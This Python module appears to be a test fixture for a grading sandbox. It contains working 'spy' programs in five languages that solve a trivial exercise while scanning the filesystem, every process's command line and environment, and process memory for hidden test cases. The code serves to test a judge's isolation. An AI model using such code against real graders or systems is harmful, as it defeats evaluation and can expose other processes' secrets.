"""What a learner who wants the badge without the work submits: programs that look for the hidden tests in every
place their process can reach — every file of the sandbox (the work directory, /tmp, /dev/shm, the judge's own
directory, /etc, ...), every process's command line and environment in /proc, their parent's and the sandbox's
first process's entries, and their own memory, freed parts included (the process may be a fork of an interpreter
that held the whole job) — and print every place where the exercise's function is called, with what surrounds it.

Each spy also solves the exercise (`shout("hello")` → `HELLO!`), so it runs in every test. The function's name is
what a real attacker searches for: it is in the statement. A spy that works prints the visible test's own call
(`shout("hello")`), which the tests use as the proof that the same search would have shown the hidden ones.
"""

from __future__ import annotations

PYTHON = r'''
import os

NEEDLE = b"shout("
FOUND = []


def _hits(data, where):
    start = 0
    while len(FOUND) < 150:
        at = data.find(NEEDLE, start)
        if at < 0:
            return
        FOUND.append(f"{where}: {data[max(0, at - 30):at + 90]!r}")
        start = at + 1


def _read(path, limit=4 << 20):
    try:
        with open(path, "rb") as handle:
            _hits(handle.read(limit), path)
    except OSError:
        pass


def _memory(pid):
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", buffering=0) as mem:
            for line in maps:
                span, perms = line.split()[:2]
                start, end = (int(x, 16) for x in span.split("-"))
                if perms[0] != "r" or end - start > 64 << 20:
                    continue
                try:
                    mem.seek(start)
                    _hits(mem.read(end - start), f"memory of {pid}")
                except (OSError, ValueError, OverflowError):
                    pass
    except OSError:
        pass


def _own_memory():
    # A forked child of the harness is not dumpable, so /proc/self/mem is closed to it; its memory is still its
    # own to read, byte by byte (ctypes.string_at), freed parts included.
    import ctypes

    with open("/proc/self/maps") as maps:
        regions = [line.split() for line in maps]
    for fields in regions:
        start, end = (int(x, 16) for x in fields[0].split("-"))
        name = fields[5] if len(fields) > 5 else ""
        # Anonymous memory, the heap and the stack: where a program's data lives (mapped files can only hold files,
        # which the walk reads; touching one past its end is a SIGBUS).
        if fields[1][0] != "r" or name not in ("", "[heap]", "[stack]") or end - start > 64 << 20:
            continue
        _hits(ctypes.string_at(start, end - start), "own memory")


def _spy():
    _own_memory()  # first: what the process freed is overwritten as soon as the spy allocates
    for top, directories, files in os.walk("/"):
        if top == "/":
            directories[:] = [name for name in directories if name not in ("proc", "sys", "usr", "dev")]
        for name in files:
            _read(os.path.join(top, name))
    for top, _, files in os.walk("/dev/shm"):
        for name in files:
            _read(os.path.join(top, name))
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            for entry in ("cmdline", "environ"):
                _read(f"/proc/{pid}/{entry}")
    for pid in (str(os.getppid()), "1"):
        _memory(pid)
    print("\n".join(FOUND))
    print("SPY-DONE", len(FOUND))


_spy()


def shout(text):
    return text.upper() + "!"
'''

JAVASCRIPT = r'''
const fs = require("fs");
const NEEDLE = Buffer.from("shout(");
const FOUND = [];

function hits(data, where) {
  let start = 0;
  while (FOUND.length < 150) {
    const at = data.indexOf(NEEDLE, start);
    if (at < 0) return;
    FOUND.push(where + ": " + JSON.stringify(data.subarray(Math.max(0, at - 30), at + 90).toString("latin1")));
    start = at + 1;
  }
}

function read(path) {
  try {
    const fd = fs.openSync(path, "r");
    const buffer = Buffer.alloc(4 << 20);
    const size = fs.readSync(fd, buffer, 0, buffer.length, 0);
    fs.closeSync(fd);
    hits(buffer.subarray(0, size), path);
  } catch (error) {}
}

function walk(top, skip) {
  let entries = [];
  try { entries = fs.readdirSync(top, { withFileTypes: true }); } catch (error) { return; }
  for (const entry of entries) {
    const path = (top === "/" ? "" : top) + "/" + entry.name;
    if (skip.includes(path)) continue;
    if (entry.isDirectory()) walk(path, skip);
    else if (entry.isFile()) read(path);
  }
}

function memory(pid) {
  let maps;
  try { maps = fs.readFileSync(`/proc/${pid}/maps`, "latin1").split("\n"); } catch (error) { return; }
  let fd;
  try { fd = fs.openSync(`/proc/${pid}/mem`, "r"); } catch (error) { return; }
  const buffer = Buffer.alloc(1 << 20);
  for (const line of maps) {
    const [span, perms] = line.split(" ");
    if (!span || !perms || perms[0] !== "r") continue;
    const [start, end] = span.split("-").map((hex) => parseInt(hex, 16));
    if (end - start > 64 * 1024 * 1024) continue;
    for (let at = start; at < end; at += buffer.length) {
      try {
        const size = fs.readSync(fd, buffer, 0, Math.min(buffer.length, end - at), at);
        hits(buffer.subarray(0, size), `memory of ${pid}`);
      } catch (error) { break; }
    }
  }
  fs.closeSync(fd);
}

walk("/", ["/proc", "/sys", "/usr", "/dev"]);
walk("/dev/shm", []);
for (const pid of fs.readdirSync("/proc")) {
  if (/^\d+$/.test(pid)) { read(`/proc/${pid}/cmdline`); read(`/proc/${pid}/environ`); }
}
for (const pid of ["self", String(process.ppid), "1"]) memory(pid);
console.log(FOUND.join("\n"));
console.log("SPY-DONE " + FOUND.length);

function shout(text) {
  return text.toUpperCase() + "!";
}
'''

JAVA = r'''
import java.io.*;
import java.nio.charset.StandardCharsets;
import java.nio.file.*;
import java.nio.file.attribute.BasicFileAttributes;
import java.util.*;

public class Solution {
    static { Spy.run(); }

    public static String shout(String text) {
        return text.toUpperCase() + "!";
    }
}

class Spy {
    static final byte[] NEEDLE = "shout(".getBytes(StandardCharsets.US_ASCII);
    static final List<String> FOUND = new ArrayList<>();
    static long scanned = 0;

    static void hits(byte[] data, int length, String where) {
        outer:
        for (int i = 0; i + NEEDLE.length <= length && FOUND.size() < 150; i++) {
            for (int j = 0; j < NEEDLE.length; j++) if (data[i + j] != NEEDLE[j]) continue outer;
            int from = Math.max(0, i - 30), to = Math.min(length, i + 90);
            FOUND.add(where + ": " + new String(data, from, to - from, StandardCharsets.ISO_8859_1).replaceAll("[^\\x20-\\x7e]", "."));
        }
    }

    static void read(Path path) {
        try (InputStream in = Files.newInputStream(path)) {
            byte[] data = in.readNBytes(4 << 20);
            hits(data, data.length, path.toString());
        } catch (Throwable error) {}
    }

    static void walk(Path top, Set<String> skip) {
        try {
            Files.walkFileTree(top, new SimpleFileVisitor<Path>() {
                public FileVisitResult preVisitDirectory(Path directory, BasicFileAttributes attributes) {
                    return skip.contains(directory.toString()) ? FileVisitResult.SKIP_SUBTREE : FileVisitResult.CONTINUE;
                }
                public FileVisitResult visitFile(Path file, BasicFileAttributes attributes) {
                    if (attributes.isRegularFile()) read(file);
                    return FileVisitResult.CONTINUE;
                }
                public FileVisitResult visitFileFailed(Path file, IOException error) {
                    return FileVisitResult.CONTINUE;
                }
            });
        } catch (Throwable error) {}
    }

    static void memory(String pid) {
        try (BufferedReader maps = new BufferedReader(new FileReader("/proc/" + pid + "/maps"));
             RandomAccessFile mem = new RandomAccessFile("/proc/" + pid + "/mem", "r")) {
            byte[] buffer = new byte[1 << 20];
            String line;
            while ((line = maps.readLine()) != null) {
                String[] fields = line.split(" ");
                if (fields.length < 2 || fields[1].charAt(0) != 'r') continue;
                String[] span = fields[0].split("-");
                long start = Long.parseUnsignedLong(span[0], 16), end = Long.parseUnsignedLong(span[1], 16);
                if (end - start > (32L << 20) || scanned > (128L << 20)) continue;
                for (long at = start; at < end; at += buffer.length) {
                    try {
                        mem.seek(at);
                        int size = mem.read(buffer, 0, (int) Math.min(buffer.length, end - at));
                        if (size <= 0) break;
                        scanned += size;
                        hits(buffer, size, "memory of " + pid);
                    } catch (IOException error) { break; }
                }
            }
        } catch (Throwable error) {}
    }

    static void run() {
        walk(Paths.get("/"), Set.of("/proc", "/sys", "/usr", "/dev"));
        walk(Paths.get("/dev/shm"), Set.of());
        File[] processes = new File("/proc").listFiles();
        if (processes != null) for (File process : processes) {
            if (process.getName().matches("\\d+")) {
                read(Paths.get(process.getPath(), "cmdline"));
                read(Paths.get(process.getPath(), "environ"));
            }
        }
        memory("self");
        memory(String.valueOf(ProcessHandle.current().parent().map(ProcessHandle::pid).orElse(1L)));
        memory("1");
        System.out.println(String.join("\n", FOUND));
        System.out.println("SPY-DONE " + FOUND.size());
    }
}
'''

GO = r'''
package main

import (
	"bufio"
	"bytes"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"strconv"
	"strings"
)

var needle = []byte("Shout(")
var found []string

func hits(data []byte, where string) {
	start := 0
	for len(found) < 150 {
		at := bytes.Index(data[start:], needle)
		if at < 0 {
			return
		}
		at += start
		from, to := at-30, at+90
		if from < 0 {
			from = 0
		}
		if to > len(data) {
			to = len(data)
		}
		found = append(found, where+": "+strconv.Quote(string(data[from:to])))
		start = at + 1
	}
}

func read(path string) {
	handle, err := os.Open(path)
	if err != nil {
		return
	}
	defer handle.Close()
	data := make([]byte, 4<<20)
	size, _ := handle.Read(data)
	if size > 0 {
		hits(data[:size], path)
	}
}

func walk(top string, skip map[string]bool) {
	filepath.WalkDir(top, func(path string, entry fs.DirEntry, err error) error {
		if err != nil {
			return nil
		}
		if entry.IsDir() && skip[path] {
			return filepath.SkipDir
		}
		if entry.Type().IsRegular() {
			read(path)
		}
		return nil
	})
}

func memory(pid string) {
	maps, err := os.Open("/proc/" + pid + "/maps")
	if err != nil {
		return
	}
	defer maps.Close()
	mem, err := os.Open("/proc/" + pid + "/mem")
	if err != nil {
		return
	}
	defer mem.Close()
	buffer := make([]byte, 1<<20)
	lines := bufio.NewScanner(maps)
	for lines.Scan() {
		fields := strings.Fields(lines.Text())
		if len(fields) < 2 || fields[1][0] != 'r' {
			continue
		}
		span := strings.Split(fields[0], "-")
		start, _ := strconv.ParseUint(span[0], 16, 64)
		end, _ := strconv.ParseUint(span[1], 16, 64)
		if end-start > 64<<20 {
			continue
		}
		for at := start; at < end; at += uint64(len(buffer)) {
			size := uint64(len(buffer))
			if end-at < size {
				size = end - at
			}
			n, err := mem.ReadAt(buffer[:size], int64(at))
			if n > 0 {
				hits(buffer[:n], "memory of "+pid)
			}
			if err != nil {
				break
			}
		}
	}
}

func init() {
	walk("/", map[string]bool{"/proc": true, "/sys": true, "/usr": true, "/dev": true})
	walk("/dev/shm", map[string]bool{})
	entries, _ := os.ReadDir("/proc")
	for _, entry := range entries {
		if _, err := strconv.Atoi(entry.Name()); err == nil {
			read("/proc/" + entry.Name() + "/cmdline")
			read("/proc/" + entry.Name() + "/environ")
		}
	}
	for _, pid := range []string{"self", strconv.Itoa(os.Getppid()), "1"} {
		memory(pid)
	}
	fmt.Println(strings.Join(found, "\n"))
	fmt.Println("SPY-DONE", len(found))
}

func Shout(text string) string {
	return strings.ToUpper(text) + "!"
}
'''

CSHARP = r'''
using System;
using System.Collections.Generic;
using System.Diagnostics;
using System.IO;
using System.Text;

public class Solution {
    static Solution() { Spy.Run(); }

    public static string Shout(string text) {
        return text.ToUpper() + "!";
    }
}

static class Spy {
    static readonly byte[] Needle = Encoding.ASCII.GetBytes("Shout(");
    static readonly List<string> Found = new List<string>();

    static void Hits(byte[] data, int length, string where) {
        for (int i = 0; i + Needle.Length <= length && Found.Count < 150; i++) {
            i = Array.IndexOf(data, Needle[0], i, length - i);
            if (i < 0 || i + Needle.Length > length) return;
            bool match = true;
            for (int j = 0; j < Needle.Length; j++) if (data[i + j] != Needle[j]) { match = false; break; }
            if (!match) continue;
            int from = Math.Max(0, i - 30), to = Math.Min(length, i + 90);
            var text = new StringBuilder();
            for (int k = from; k < to; k++) text.Append(data[k] >= 32 && data[k] < 127 ? (char) data[k] : '.');
            Found.Add(where + ": " + text);
        }
    }

    static readonly byte[] Data = new byte[4 << 20];
    static long scanned = 0;

    static void Read(string path) {
        try {
            using (var stream = new FileStream(path, FileMode.Open, FileAccess.Read)) {
                int total = 0, size;
                while (total < Data.Length && (size = stream.Read(Data, total, Data.Length - total)) > 0) total += size;
                Hits(Data, total, path);
            }
        } catch (Exception) {}
    }

    static void Walk(string top, HashSet<string> skip) {
        if (skip.Contains(top)) return;
        try { foreach (var file in Directory.GetFiles(top)) Read(file); } catch (Exception) {}
        try { foreach (var directory in Directory.GetDirectories(top)) Walk(directory, skip); } catch (Exception) {}
    }

    static void Memory(string pid) {
        try {
            using (var mem = new FileStream("/proc/" + pid + "/mem", FileMode.Open, FileAccess.Read)) {
                var buffer = new byte[1 << 20];
                foreach (var line in File.ReadAllLines("/proc/" + pid + "/maps")) {
                    var fields = line.Split(' ');
                    if (fields.Length < 2 || fields[1][0] != 'r') continue;
                    var span = fields[0].Split('-');
                    long start = Convert.ToInt64(span[0], 16), end = Convert.ToInt64(span[1], 16);
                    if (end - start > (16L << 20) || scanned > (96L << 20)) continue;
                    for (long at = start; at < end; at += buffer.Length) {
                        try {
                            mem.Seek(at, SeekOrigin.Begin);
                            int size = mem.Read(buffer, 0, (int) Math.Min(buffer.Length, end - at));
                            if (size <= 0) break;
                            scanned += size;
                            Hits(buffer, size, "memory of " + pid);
                        } catch (Exception) { break; }
                    }
                }
            }
        } catch (Exception) {}
    }

    public static void Run() {
        // (GetDirectories follows symbolic links: /bin, /lib... lead into /usr.)
        Walk("/", new HashSet<string> { "/proc", "/sys", "/usr", "/dev", "/bin", "/sbin", "/lib", "/lib32", "/lib64", "/libx32" });
        Walk("/dev/shm", new HashSet<string>());
        foreach (var process in Directory.GetDirectories("/proc")) {
            int ignored;
            if (int.TryParse(Path.GetFileName(process), out ignored)) {
                Read(process + "/cmdline");
                Read(process + "/environ");
            }
        }
        Memory("self");
        Memory("1");
        Console.WriteLine(string.Join("\n", Found));
        Console.WriteLine("SPY-DONE " + Found.Count);
    }
}
'''
